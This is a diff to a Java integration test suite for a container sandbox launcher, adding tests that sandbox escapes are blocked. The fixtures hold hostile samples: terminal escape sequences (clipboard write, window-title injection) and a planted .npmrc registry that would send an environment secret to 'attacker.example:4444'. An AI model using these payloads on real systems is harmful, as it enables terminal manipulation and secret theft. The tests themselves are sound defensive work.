@@ -93,10 +93,14 @@ class CliIT {
     }
 
     private static ProcessBuilder command(List<String> args, Map<String, String> extraEnv) {
+        return command(project, args, extraEnv);
+    }
+
+    private static ProcessBuilder command(Path cwd, List<String> args, Map<String, String> extraEnv) {
         List<String> line = new ArrayList<>();
         line.add(launcher.toString());
         line.addAll(args);
-        ProcessBuilder builder = new ProcessBuilder(line).directory(project.toFile());
+        ProcessBuilder builder = new ProcessBuilder(line).directory(cwd.toFile());
         Map<String, String> env = builder.environment();
         env.put("CONTAINER_HOST", TestPodman.address().uri());
         env.put("XDG_STATE_HOME", home.resolve("state").toString());
@@ -111,8 +115,13 @@ class CliIT {
 
     /** Runs the launcher; {@code input} (may be null) is written to its stdin, which is then closed. */
     private static Result minoWithInput(String input, Map<String, String> extraEnv, String... args) {
+        return minoIn(project, input, extraEnv, args);
+    }
+
+    /** Runs the launcher in the folder {@code cwd}, where it looks for a local {@code .mino.toml}. */
+    private static Result minoIn(Path cwd, String input, Map<String, String> extraEnv, String... args) {
         try {
-            Process process = command(Arrays.asList(args), extraEnv).start();
+            Process process = command(cwd, Arrays.asList(args), extraEnv).start();
             CompletableFuture<String> out = read(process.getInputStream());
             CompletableFuture<String> err = read(process.getErrorStream());
             try (OutputStream stdin = process.getOutputStream()) {
@@ -156,6 +165,16 @@ class CliIT {
         } catch (MinoException e) {
             // Gone already, which is what stop is for.
         }
+    }
+
+    /** {@code mino logs} of a detached session, asked again until its stdout shows {@code text} (10 s at most). */
+    private static Result logsOnceTheyShow(String session, String text) throws InterruptedException {
+        Result logs = mino("logs", session);
+        for (int i = 0; i < 20 && !logs.stdout().contains(text); i++) {
+            Thread.sleep(500);
+            logs = mino("logs", session);
+        }
+        return logs;
     }
 
     private static JsonNode listJson(String... options) throws IOException {
@@ -208,29 +227,97 @@ class CliIT {
         assertEquals("hi\nthere\n", result.stdout(), "cat ends because stdin was closed at its end");
     }
 
-    @Test
-    void givesTheCommandATerminalWhenMinoHasOne() throws Exception {
+    /** What one run of a shell line under script(1) wrote to its pseudo-terminal. */
+    record TerminalResult(int exitCode, byte[] output) {
+        String text() {
+            // Byte for byte, so that a lone 0x9B stays visible as the char U+009B.
+            return new String(output, StandardCharsets.ISO_8859_1);
+        }
+    }
+
+    /**
+     * Runs {@code shellLine} (which names the launcher) with stdin, stdout and stderr on a
+     * pseudo-terminal that util-linux script(1) makes, without CI variables.
+     */
+    private static TerminalResult atTerminal(String shellLine) throws Exception {
         Path script = Path.of("/usr/bin/script");
         Prerequisites.requireExecutable(script.toString(), "script(1) makes the pseudo-terminal for this test");
-        // --network: at a terminal, with nothing choosing the network, run would ask (see PromptsIT).
-        String line = launcher + " " + String.join(" ", run("--network", "bridge", "--", "sh", "-c",
-            "'tty; stty size; exit 5'"));
-        ProcessBuilder builder = new ProcessBuilder(script.toString(), "-qec", line, "/dev/null")
+        ProcessBuilder builder = new ProcessBuilder(script.toString(), "-qec", shellLine, "/dev/null")
             .directory(project.toFile()).redirectErrorStream(true);
         Map<String, String> env = builder.environment();
         env.keySet().removeAll(CI_VARIABLES);
         env.put("TERM", "xterm");
+        // mino's own colours would be escape sequences too; the tests look for the sandbox's.
+        env.put("NO_COLOR", "1");
         env.put("CONTAINER_HOST", TestPodman.address().uri());
         env.put("XDG_STATE_HOME", home.resolve("state").toString());
         env.put("XDG_CONFIG_HOME", home.resolve("config").toString());
         Process process = builder.start();
-        CompletableFuture<String> output = read(process.getInputStream());
+        CompletableFuture<byte[]> output = CompletableFuture.supplyAsync(() -> {
+            try (InputStream in = process.getInputStream()) {
+                return in.readAllBytes();
+            } catch (IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        });
         assertTrue(process.waitFor(TIMEOUT_SECONDS, TimeUnit.SECONDS), "mino under script(1) ended");
-        String text = output.get(30, TimeUnit.SECONDS);
+        byte[] bytes = output.get(30, TimeUnit.SECONDS);
         process.getOutputStream().close();
-        assertEquals(5, process.exitValue(), text);
+        return new TerminalResult(process.exitValue(), bytes);
+    }
+
+    @Test
+    void givesTheCommandATerminalWhenMinoHasOne() throws Exception {
+        // --network: at a terminal, with nothing choosing the network, run would ask (see PromptsIT).
+        TerminalResult result = atTerminal(launcher + " " + String.join(" ", run("--network", "bridge", "--", "sh",
+            "-c", "'tty; stty size; exit 5'")));
+        String text = result.text();
+        assertEquals(5, result.exitCode(), text);
         assertTrue(text.contains("/dev/pts/"), "the command's stdin is a terminal: " + text);
         assertFalse(text.contains("not a tty"), text);
+    }
+
+    /**
+     * Issue 14, escape 15: a sandbox writes a clipboard write (OSC 52), a window title, a C1 CSI
+     * byte and a clear screen. At a terminal, {@code mino logs} and a run without a terminal of its
+     * own show them as text; {@code --raw} and a pipe pass them unchanged (the positive controls).
+     */
+    @Test
+    void aSandboxsEscapeSequencesReachATerminalOnlyAsTextUnlessRaw() throws Exception {
+        String printf = "printf '\\033]52;c;cHduZWQ=\\007\\033]0;pwned\\007\\2332J-marker-\\342\\234\\223\\n'";
+        String name = uniqueName("escapes");
+        started.add(name);
+        Result start = mino(run("-d", "-n", name, "--", "sh", "-c", printf + "; sleep 600"));
+        assertEquals(0, start.exitCode(), start.toString());
+        Result piped = logsOnceTheyShow(name, "-marker-");
+        assertTrue(piped.stdout().contains("\u001b]52;c;cHduZWQ=\u0007\u001b]0;pwned\u0007"),
+            "a pipe gets the bytes unchanged: " + piped);
+
+        TerminalResult logs = atTerminal(launcher + " logs " + name);
+        assertEquals(0, logs.exitCode(), logs.text());
+        assertEscaped(logs.text());
+
+        TerminalResult raw = atTerminal(launcher + " logs --raw " + name);
+        assertEquals(0, raw.exitCode(), raw.text());
+        assertTrue(raw.text().contains("\u001b]52;c;cHduZWQ=\u0007\u001b]0;pwned\u0007\u009b2J"),
+            "--raw passes the bytes unchanged: " + raw.text());
+
+        // stdin from /dev/null: not interactive, so the command gets no terminal and mino's stdout is one.
+        TerminalResult run = atTerminal(launcher + " " + String.join(" ", run("--network", "bridge", "--", "sh",
+            "-c", "\"" + printf.replace("\\", "\\\\") + "\"")) + " </dev/null");
+        assertEquals(0, run.exitCode(), run.text());
+        assertEscaped(run.text());
+    }
+
+    private static void assertEscaped(String terminal) {
+        assertTrue(terminal.contains("\\x1b]52;c;cHduZWQ=\\x07\\x1b]0;pwned\\x07\\x9b2J-marker-"),
+            "shown as text: " + terminal);
+        assertTrue(terminal.contains(new String("-marker-\u2713".getBytes(StandardCharsets.UTF_8),
+            StandardCharsets.ISO_8859_1)), "a multibyte character arrives whole: " + terminal);
+        for (char c : new char[] {'\u001b', '\u0007', '\u009b'}) {
+            assertFalse(terminal.indexOf(c) >= 0, "no raw " + Integer.toHexString(c) + " reaches the terminal: "
+                + terminal);
+        }
     }
 
     @Test
@@ -260,14 +347,7 @@ class CliIT {
         Result plain = mino("list", "-f", "plain");
         assertTrue(plain.stdout().lines().anyMatch(name::equals), plain.toString());
 
-        Result logs = null;
-        for (int i = 0; i < 20; i++) {
-            logs = mino("logs", name);
-            if (logs.stdout().contains("hello-from-detached")) {
-                break;
-            }
-            Thread.sleep(500);
-        }
+        Result logs = logsOnceTheyShow(name, "hello-from-detached");
         assertEquals(0, logs.exitCode(), logs.toString());
         assertTrue(logs.stdout().contains("hello-from-detached"), logs.toString());
 
@@ -305,6 +385,46 @@ class CliIT {
         assertTrue(session(listJson("-a"), name) == null, "no session is recorded");
         try (PodmanClient podman = TestPodman.newClient()) {
             assertFalse(podman.containers().exists("mino-" + name), "no container is created");
+        }
+    }
+
+    /**
+     * Issue 14, escape 4: a trusted project whose {@code .npmrc} (written by an earlier sandbox)
+     * names a registry built from the host's environment. The plan's firewall holds the user's own
+     * registry (the positive control) and neither the planted host, its port nor the secret.
+     */
+    @Test
+    void aProjectsNpmrcNeverWidensThePresetAndNoVariableIsExpanded() throws Exception {
+        Path hostile = TestDirectories.create("mino-cli-it-npmrc-project");
+        Path userHome = TestDirectories.create("mino-cli-it-npmrc-home");
+        try {
+            Files.writeString(hostile.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
+            Files.writeString(hostile.resolve(".mino.toml"), "[container]\nnetwork_preset = \"registries\"\n");
+            Files.writeString(userHome.resolve(".npmrc"), "registry=https://npm.mirror.example.internal:8443/\n");
+            Result result = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
+                "--trust-local", "run", "--dry-run", "--image", IMAGE, "-p", hostile.toString(), "--", "true");
+            assertEquals(0, result.exitCode(), result.toString());
+            JsonNode firewall = JSON.readTree(result.stdout()).path("firewall");
+            assertFalse(firewall.isMissingNode(), "the preset is an allowlist with a firewall: " + result);
+            String rules = firewall.toString();
+            assertTrue(rules.contains("npm.mirror.example.internal") && rules.contains("8443"),
+                "the user's own registry is in the allowlist: " + rules);
+            for (String planted : List.of("attacker", "4444", "s3cret-value", "SOME_SECRET")) {
+                assertFalse(result.stdout().contains(planted), planted + " must not reach the plan: " + result);
+            }
+            assertFalse(result.stderr().contains("s3cret-value"), result.toString());
+
+            // The user's own ~/.npmrc with a variable: ignored with a warning, never expanded.
+            Files.writeString(userHome.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
+            Result expanded = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
+                "--trust-local", "run", "--dry-run", "--image", IMAGE, "-p", hostile.toString(), "--", "true");
+            assertEquals(0, expanded.exitCode(), expanded.toString());
+            assertFalse(expanded.stdout().contains("s3cret-value") || expanded.stdout().contains("4444"),
+                expanded.toString());
+            assertTrue(expanded.stderr().contains("never builds a host or port from variables"), expanded.toString());
+        } finally {
+            TestDirectories.delete(hostile);
+            TestDirectories.delete(userHome);
         }
     }
 
